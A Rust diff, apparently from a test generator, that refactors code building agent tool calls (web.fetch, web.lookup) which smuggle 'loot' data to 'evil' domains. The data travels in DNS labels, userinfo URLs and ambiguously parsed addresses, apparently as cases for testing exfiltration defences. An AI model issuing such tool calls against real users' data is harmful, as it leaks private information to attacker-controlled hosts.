@@ -22,7 +22,7 @@ pub struct Loot<'a> {
 
 impl Loot<'_> {
     fn evil(&mut self) -> &'static str {
-        self.random.pick(&DOMAINS)
+        *self.random.pick::<&'static str>(&DOMAINS)
     }
 
     /// The data as labels of a host name.
@@ -129,9 +129,13 @@ pub const ALL: &[(&str, fn(&mut Loot<'_>) -> Call)] = &[
     ("label of a named host", |loot| {
         ("web.fetch", json!({"url": format!("https://{}.{}/", loot.label(), loot.named)}))
     }),
-    ("name looked up", |loot| ("web.lookup", json!({"host": format!("{}.{}", loot.label(), loot.evil())}))),
+    ("name looked up", |loot| {
+        let evil = loot.evil();
+        ("web.lookup", json!({"host": format!("{}.{evil}", loot.label())}))
+    }),
     ("userinfo", |loot| {
-        let url = format!("https://{}@{}/{}", loot.named, loot.evil(), loot.path());
+        let evil = loot.evil();
+        let url = format!("https://{}@{evil}/{}", loot.named, loot.path());
         ("web.fetch", json!({"url": url}))
     }),
     ("address that clients read differently", |loot| {
